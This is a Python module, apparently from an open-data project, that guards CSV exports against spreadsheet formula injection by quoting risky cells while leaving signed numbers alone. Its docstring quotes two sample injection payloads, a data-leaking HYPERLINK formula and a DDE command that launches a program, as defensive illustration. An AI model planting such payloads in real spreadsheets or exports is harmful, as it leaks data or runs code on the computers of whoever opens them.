"""CSV formula injection (OWASP, "CSV Injection"): a spreadsheet that opens a CSV file takes a cell that starts
with `=`, `+`, `-` or `@` (or a tab or carriage return before one) for a formula, and runs it: a course name
such as `=HYPERLINK("http://…?"&A1;"Inscription")` or `=cmd|' /C calc'!A0` would leak data or start a program
on the computer of whoever opens the open data. Every CSV the project writes passes its text cells here.

Decision (docs/adr/0014-published-exports.md): such a cell gets a leading single quote, which spreadsheets
show as text and other tools show verbatim, as OWASP recommends. A signed number stays as it is, so that
amounts and international phone numbers remain readable and sortable: a sign followed only by digits, spaces
and one decimal separator (`-12.50`, `+33 1 34 12 34 56`) holds no function, no cell reference and no second
operator, so a spreadsheet reads it as a number or as text and runs nothing. Numbers stored as numbers (amounts,
coordinates) are never text here and are written unchanged.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-]\d[\d ]*(?:[.,]\d+)?")


def neutralise_formula(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet runs: a leading `'` when it could start a formula."""
    if text.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(text):
        return "'" + text
    return text
